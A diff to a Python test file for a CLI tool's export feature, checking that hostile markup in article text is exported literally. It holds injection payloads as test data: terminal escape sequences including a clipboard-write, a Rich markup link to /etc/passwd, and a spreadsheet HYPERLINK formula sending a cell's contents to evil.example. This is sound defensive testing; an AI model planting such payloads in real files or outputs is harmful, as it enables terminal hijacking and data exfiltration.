@@ -10,10 +10,8 @@ import pytest
 
 from store.db import Store
 from tests.conftest import ARTICLES
-from tests.hostile import forbidden_in, hostile, needs_extractor
+from tests.hostile import forbidden_in, hostile
 from tui.cli import main
-
-pytestmark = needs_extractor
 
 NOTE = "[bold red]check[/] [link=file:///etc/passwd]x[/] \x1b[2J\x1b]52;c;cHduZWQ=\x07 سيطر \u202eevil\u202c\x00"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -68,5 +66,5 @@ def test_markup_in_article_sentences_reaches_the_export_literally(capsys, noted_
     folder, _, _ = noted_store
     records = [json.loads(line) for line in export(capsys, folder, "jsonl", tmp_path).splitlines()]
     sentences = " ".join(r["sentence"] for r in records)
-    if "[bold red]Sunni Arab militants[/]" not in sentences:
+    if "[link=file:///etc/passwd]x[/] [@click=app.quit]quit[/]" not in sentences:
         pytest.fail("no event from the markup report was exported with its sentence literal")
